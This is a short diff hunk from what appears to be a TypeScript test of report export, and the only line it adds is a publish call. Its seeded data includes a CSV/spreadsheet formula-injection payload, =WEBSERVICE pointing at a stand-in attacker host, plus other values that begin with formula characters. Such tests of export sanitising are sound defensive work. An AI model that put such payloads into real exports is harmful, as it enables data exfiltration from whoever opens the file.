@@ -20,6 +20,7 @@ await db().metric.update({
   data: { name: '=WEBSERVICE("http://evil.example/")', description: '<p>@сумма &lt;1&gt;</p><p>+7</p>' },
 })
 await db().metricCategory.update({ where: { id: world.categoryId }, data: { name: '-Категория' } })
+await publishAfresh()
 
 const query = (text: Record<string, string>) => reportExportQuerySchema.parse(text)
 
